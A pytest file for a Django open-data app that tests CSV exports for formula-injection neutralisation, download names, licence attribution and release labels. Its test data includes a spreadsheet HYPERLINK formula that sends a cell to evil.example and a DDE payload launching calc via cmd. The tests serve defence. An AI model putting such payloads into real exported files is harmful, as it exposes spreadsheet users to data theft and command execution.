"""Open data and every CSV the app writes: formulas neutralised, names, licences, releases."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from livingmap.areas.models import Area
from livingmap.assets.models import Asset, AssetKind, AssetSource, Visibility
from livingmap.assets.services import save_asset
from livingmap.core.models import Dataset
from livingmap.insights import downloads
from livingmap.insights.models import ActivityCategory
from livingmap.insights.services import add_activity, record_participation

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def _dicts(response) -> list[dict[str, str]]:
    rows = _csv(response)
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    for text in ("=1+1", "+44 161 912 2000", "-cmd", "@SUM(A1)", "\tx", "\rx"):
        assert downloads.csv_cell(text) == "'" + text
    # Numbers are left alone, negative ones too; so is ordinary text.
    assert downloads.csv_cell(-2.35) == -2.35
    assert downloads.csv_cell(-7) == -7
    assert downloads.csv_cell("Altrincham Library") == "Altrincham Library"
    assert downloads.csv_cell("<5") == "<5"
    assert downloads.csv_cell(None) == ""
    line = "".join(downloads.csv_rows(["name", "lon"], [[ATTACK, -2.35]]))
    assert list(csv.reader(io.StringIO(line)))[1] == ["'" + ATTACK, "-2.35"]


def test_an_asset_named_like_a_formula_is_text_in_the_assets_csv(client):
    asset = save_asset(
        Asset(name=ATTACK, kind=AssetKind.ASSOCIATION, lon=-2.35, lat=53.44, phone="-0161")
    )
    rows = _dicts(client.get("/open-data/assets-csv/"))
    row = next(r for r in rows if r["uuid"] == str(asset.uuid))
    assert row["name"] == "'" + ATTACK
    assert row["phone"] == "'-0161"
    # The location is a number and stays one.
    assert row["lon"] == "-2.35" and float(row["lat"]) == 53.44
    # No cell of the file starts with a formula character.
    starts = tuple("=+-@\t\r")
    assert not [
        v for r in rows for k, v in r.items() if k not in {"lon", "lat"} and v.startswith(starts)
    ]
    assert any(float(r["lon"]) < 0 for r in rows if r["lon"])  # Trafford is west of Greenwich


def test_every_csv_of_the_app_neutralises_formulas(client):
    """A neighbourhood's name (drawn or imported by an officer) reaches the profile, profiles,
    gaps and participation CSVs: everywhere it is text."""
    hood = Area.objects.neighbourhoods().get(slug="central")
    Area.objects.filter(pk=hood.pk).update(name="=cmd|' /C calc'!A0")
    bad = "=cmd|' /C calc'!A0"
    profile = _csv(client.get("/neighbourhoods/central/profile.csv"))
    assert profile[0][2] == "'" + bad
    assert all(not c.startswith("=") for r in profile for c in r)
    profiles = _dicts(client.get("/open-data/profiles-csv/"))
    assert "'" + bad in {r["neighbourhood"] for r in profiles}
    gaps = _dicts(client.get("/gaps/", {"format": "csv"}))
    assert "'" + bad in {r["name"] for r in gaps}
    group = Asset.objects.public().filter(categories__slug="library").first()
    record_participation(
        add_activity(group, "Rhymes", ActivityCategory.FAMILIES), date(2025, 3, 1), 30, {hood: 10}
    )
    participation = _dicts(client.get("/open-data/participation-csv/"))
    assert "'" + bad in {r["month_or_neighbourhood"] for r in participation}


def test_each_measure_has_one_name_in_every_csv(client):
    profile = _csv(client.get("/neighbourhoods/central/profile.csv"))
    measures = [r[0] for r in profile[1:]]
    assert len(measures) == len(set(measures))  # imd_average_rank was there twice
    assert all("-" not in m for m in measures)
    assert {"population", "imd_average_rank", "imd_share_in_decile_1"} <= set(measures)
    profiles_header = _csv(client.get("/open-data/profiles-csv/"))[0]
    assert len(profiles_header) == len(set(profiles_header))
    # The same measure has the same name in the profile and the profiles CSV.
    assert set(measures) <= set(profiles_header)
    gaps_header = _csv(client.get("/gaps/", {"format": "csv"}))[0]
    assert "imd_average_rank" in gaps_header
    domain = _csv(client.get("/gaps/", {"format": "csv", "need": "income-rank"}))[0]
    assert "income_average_rank" in domain and "income_average_rank" in measures
    # The figures agree across the files.
    central = next(
        r for r in _dicts(client.get("/open-data/profiles-csv/")) if r["slug"] == "central"
    )
    row = next(r for r in profile if r[0] == "imd_average_rank")
    assert float(central["imd_average_rank"]) == pytest.approx(float(row[2]), abs=0.1)


def test_download_file_names_say_what_they_hold(client):
    names = {
        "assets-csv": "livingmap-assets.csv",
        "assets-geojson": "livingmap-assets.geojson",
        "neighbourhoods-geojson": "livingmap-neighbourhoods.geojson",
        "indicators-csv": "livingmap-indicators.csv",
        "profiles-csv": "livingmap-profiles.csv",
        "participation-csv": "livingmap-participation.csv",
    }
    for slug, name in names.items():
        response = client.get(f"/open-data/{slug}/")
        assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    page = client.get("/open-data/").content.decode()
    assert 'download="livingmap-assets.csv"' in page
    response = client.get("/neighbourhoods/central/profile.csv")
    assert 'filename="livingmap-profile-central.csv"' in response["Content-Disposition"]
    response = client.get("/gaps/", {"format": "csv", "category": "library"})
    assert 'filename="livingmap-gaps-imd-rank-library.csv"' in response["Content-Disposition"]


def _licences_of_public_assets() -> set[str]:
    """Worked out another way: every licence named by a data set a public asset came from."""
    slugs = set(
        AssetSource.objects.filter(asset__in=Asset.objects.public()).values_list(
            "dataset__licence", flat=True
        )
    )
    return {part.strip() for text in slugs for part in text.split(";")}


def test_assets_downloads_carry_the_licences_of_the_data_sets_in_them(client):
    allotments = Dataset.objects.get(slug="trafford-council-allotments")
    assert "Open Database Licence" in allotments.licence
    assert AssetSource.objects.filter(dataset=allotments, asset__in=Asset.objects.public()).exists()
    expected = _licences_of_public_assets()
    assert len(expected) >= 2
    for slug in ("assets-csv", "assets-geojson", "profiles-csv"):
        d = downloads.get_download(slug)
        names = {lic.name for lic in d.licences}
        assert expected <= names, slug
        assert any("OpenStreetMap contributors" in text for text in d.attributions), slug
        odbl = next(lic for lic in d.licences if "ODbL" in lic.name)
        assert odbl.url == downloads.ODBL_URL  # not the OGL's address
    page = client.get("/open-data/").content.decode()
    row = page[page.index('id="download-assets-csv"') :]
    row = row[: row.index("</tr>")]
    assert "Open Government Licence v3.0" in row and "Open Database Licence (ODbL) v1.0" in row
    assert "© OpenStreetMap contributors" in row
    # Boundaries hold no OpenStreetMap data, and say so.
    hoods = downloads.get_download("neighbourhoods-geojson")
    assert {lic.name for lic in hoods.licences} == {downloads.OGL}
    participation = downloads.get_download("participation-csv")
    assert [lic.name for lic in participation.licences] == [downloads.CC_BY]


def test_licences_follow_the_data_not_a_fixed_label():
    """Take the allotments out of the public map, and the assets files no longer claim ODbL."""
    allotments = Dataset.objects.get(slug="trafford-council-allotments")
    ids = AssetSource.objects.filter(dataset=allotments).values_list("asset_id", flat=True)
    Asset.objects.filter(id__in=list(ids)).update(visibility=Visibility.PRIVATE)
    d = downloads.get_download("assets-csv")
    assert not any("ODbL" in lic.name for lic in d.licences)
    assert not any("OpenStreetMap" in text for text in d.attributions)
    assert {lic.name for lic in d.licences} == _licences_of_public_assets()


def test_a_neighbourhood_built_from_wards_carries_the_wards_licence():
    from livingmap.areas.models import Area, AreaLevel
    from livingmap.areas.services import build_neighbourhood

    wards = list(
        Area.objects.filter(level=AreaLevel.WARD, is_current=True).order_by("gss_code")[:2]
    )
    ward_source = wards[0].source
    assert ward_source is not None
    Area.objects.neighbourhoods().delete()
    build_neighbourhood(name="Two Wards", components=wards)
    hoods = downloads.get_download("neighbourhoods-geojson")
    # The statutory boundaries it lies on (its wards, and the smaller areas within them).
    assert ward_source.slug in [d.slug for d in hoods.datasets]
    assert all(d.slug.startswith("trafford-") for d in hoods.datasets)
    assert {lic.name for lic in hoods.licences} == {downloads.OGL}


def test_the_open_data_page_reads_the_assets_data_sets_once(client, django_assert_max_num_queries):
    client.get("/open-data/")  # anything built once per process is built
    with django_assert_max_num_queries(20):
        assert client.get("/open-data/").status_code == 200


def test_release_is_written_alike_and_not_stated_when_missing(client):
    assert downloads.release_label("2023-04-04") == "4 April 2023"
    assert downloads.release_label("September 2018") == "September 2018"
    assert downloads.release_label("") == "Not stated"
    page = client.get("/open-data/").content.decode()
    sources = page[page.index("Sources, licences and attribution") :]
    assert Dataset.objects.filter(release="").exists()
    assert "Not stated" in sources and '<td class="govuk-table__cell">–</td>' not in sources
    charity = Dataset.objects.get(slug="charity-commission-trafford")
    assert charity.release == "2023-04-04" and "4 April 2023" in sources
    assert "2023-04-04" not in sources


def test_the_map_layer_says_it_holds_only_the_assets_with_a_location(client):
    import json

    page = client.get("/open-data/").content.decode()
    assert "those without one are in the CSV only" in page
    response = client.get("/open-data/assets-geojson/")
    layer = json.loads(b"".join(response.streaming_content))
    located = Asset.objects.public().filter(lat__isnull=False, lon__isnull=False)
    assert len(layer["features"]) == located.count()
    assert located.count() < Asset.objects.public().count()  # some have no location
    csv_rows = _dicts(client.get("/open-data/assets-csv/"))
    assert len(csv_rows) == Asset.objects.public().count()
